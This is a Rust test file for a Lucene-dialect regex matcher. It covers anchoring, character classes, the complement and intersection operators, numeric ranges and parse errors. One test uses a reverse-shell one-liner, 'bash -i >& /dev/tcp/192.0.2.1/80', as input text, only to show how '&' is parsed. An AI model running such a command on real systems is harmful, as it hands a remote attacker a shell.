//! Each construct, on texts that fit and texts that do not.

use crate::eval::regex::Matcher;
use crate::ir::{Anchoring, Case, Regex, RegexDialect};

fn matcher(pattern: &str) -> Result<Matcher, String> {
    in_case(pattern, Case::Sensitive)
}

fn in_case(pattern: &str, case: Case) -> Result<Matcher, String> {
    Matcher::new(&Regex {
        pattern: pattern.into(),
        dialect: RegexDialect::Lucene,
        anchoring: Anchoring::Whole,
        case,
        multi_line: false,
        dot_all: false,
    })
}

fn check(pattern: &str, yes: &[&str], no: &[&str]) {
    let matcher = matcher(pattern).unwrap_or_else(|error| panic!("{pattern}: {error}"));
    yes.iter().for_each(|text| assert!(matcher.is_match(text), "{pattern} should match {text:?}"));
    no.iter().for_each(|text| assert!(!matcher.is_match(text), "{pattern} should not match {text:?}"));
}

#[test]
fn the_whole_value_is_matched() {
    check("b", &["b"], &["abc", "b\n", ""]);
    check("a|ab", &["a", "ab"], &["abc"]);
    check("", &[""], &["a"]);
}

#[test]
fn classes_and_letters_without_meaning() {
    check("\\d\\w\\s", &["1a "], &["dws"]);
    check("[x\\d-]+\\S", &["x1-y"], &["x1- ", "y1"]);
    check("^a$", &["^a$"], &["a"]);
    check("a/b:c,d e=f!", &["a/b:c,d e=f!"], &[]);
    check("a}]b", &["a}]b"], &[]);
}

#[test]
fn operators() {
    check("a.c", &["abc", "a\nc"], &["ac"]);
    check("ab?c*d+e{2}f{1,}g{0,1}", &["abccdeef", "adeeffg"], &["acef"]);
    check("(foo|bar)+", &["foobar"], &["", "fo"]);
    check("()a", &["a"], &[]);
    check("[a-c\\-x]", &["b", "-", "x"], &["d", "\\"]);
    check("[^a-c]", &["d"], &["a", ""]);
    check("[a&&b]", &["&", "a"], &["c"]);
    check("[a-]", &["a", "-"], &["b"]);
    check("\"a.*\"b", &["a.*b"], &["axxb"]);
    check("a@", &["a", "abc"], &["b"]);
    check("#", &[], &["", "#", "a"]);
    check("x<1-12>", &["x1", "x012", "x12"], &["x0", "x13"]);
    check("<01-12>", &["01", "12"], &["1", "012"]);
}

#[test]
fn sets_of_whole_values() {
    check("~(abc)", &["ab", ""], &["abc"]);
    check("~a", &["b", "aa"], &["a"]);
    check("a.*&.*b", &["ab", "axb"], &["a", "b"]);
    check("~(a.*)&~(.*b)|zb", &["c", "zb"], &["ac", "cb"]);
    check("~~a", &["a"], &["b"]);
}

#[test]
fn sets_inside_an_expression() {
    check("x~(a)", &["x", "xb", "xaa"], &["xa", "y", ""]);
    check("x(a.*&.*b)y", &["xaby", "xaqby", "xa\nby"], &["xay", "xby", "xabyz"]);
    check("(~a)+", &["", "b", "aa"], &["a"]);
    check("(a|b&b)c{2,3}(d&[c-e])?", &["acc", "bccc", "bccd"], &["ac", "bcce", "acccc"]);
    check("a&b|c(d&e)", &[], &["a", "b", "cd", "ce", "c"]);
    check("[^é]~(.*q.*)\"x&\"", &["ax&", "zyx&"], &["éx&", "ax", "aqx&"]);
    // An ampersand that was meant as a letter: nothing ends with `>` and begins with ` /dev`.
    check(".*(bash -i >& /dev/tcp).*", &[], &["bash -i >& /dev/tcp/192.0.2.1/80"]);
    let insensitive = in_case("x(A.*&.*b)", Case::Insensitive).unwrap();
    assert!(insensitive.is_match("XaB") && !insensitive.is_match("xa"));
}

#[test]
fn what_cannot_be_decided_is_named() {
    for (pattern, word) in [
        // Which of the last forty letters are `a` is more than an automaton of this size remembers.
        ("x(.*a.{40}&.*)y", "too complex"),
        ("<name>", "named automaton"),
        ("<1-999999>", "numeric interval"),
        ("(a", "not closed"),
        ("[a", "not closed"),
        ("\"a", "not closed"),
        ("a{x}", "number"),
        ("a)", "not expected"),
        ("a\\", "ends too early"),
    ] {
        let error = matcher(pattern).unwrap_err();
        assert!(error.contains(word), "{pattern}: {error}");
    }
    assert!(matcher(&"(".repeat(10_000)).unwrap_err().contains("nested"));
    assert!(matcher(&format!("a{}", "*".repeat(10_000))).unwrap_err().contains("nested"));
}
